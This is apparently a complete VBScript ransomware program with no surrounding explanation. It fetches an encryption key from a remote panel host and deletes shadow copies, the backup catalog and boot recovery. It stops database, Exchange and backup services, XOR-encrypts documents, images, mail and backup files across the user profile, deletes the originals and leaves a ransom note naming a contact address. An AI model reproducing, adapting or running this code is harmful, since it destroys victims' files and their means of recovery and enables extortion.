On Error Resume Next
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
Set net = CreateObject("WScript.Network")
Set k = CreateObject("MSXML2.XMLHTTP")
k.Open "GET", "http://keys.vbcrypt-panel.invalid/new?id=" & net.ComputerName, False
k.Send
If Err.Number <> 0 Or k.Status <> 200 Then WScript.Quit 1
key = k.ResponseText
Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
For Each sc In wmi.ExecQuery("SELECT * FROM Win32_ShadowCopy")
    sc.Delete_
Next
sh.Run "cmd /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet", 0, True
For Each svcName In Array("MSSQLSERVER", "SQLWriter", "VeeamBackupSvc", "MSExchangeIS")
    sh.Run "net stop " & svcName & " /y", 0, True
Next
Function XorText(t)
    Dim i, o
    For i = 1 To Len(t)
        o = o & Chr(Asc(Mid(t, i, 1)) Xor Asc(Mid(key, ((i - 1) Mod Len(key)) + 1, 1)))
    Next
    XorText = o
End Function
Sub Walk(folder)
    For Each f In folder.Files
        ext = LCase(fso.GetExtensionName(f.Name))
        If InStr("|doc|docx|xls|xlsx|pdf|jpg|png|txt|csv|pst|bak|", "|" & ext & "|") > 0 Then
            Set r = f.OpenAsTextStream(1): data = r.ReadAll: r.Close
            Set o = fso.CreateTextFile(f.Path & ".vbcrypt", True): o.Write XorText(data): o.Close
            f.Delete True
        End If
    Next
    For Each s In folder.SubFolders
        Walk s
    Next
End Sub
Walk fso.GetFolder(sh.ExpandEnvironmentStrings("%USERPROFILE%"))
Set n = fso.CreateTextFile(sh.SpecialFolders("Desktop") & "\RESTORE_FILES.txt", True)
n.WriteLine "Your documents were encrypted. Send your ID " & net.ComputerName & " to restore@vbcrypt-mail.invalid"
n.Close
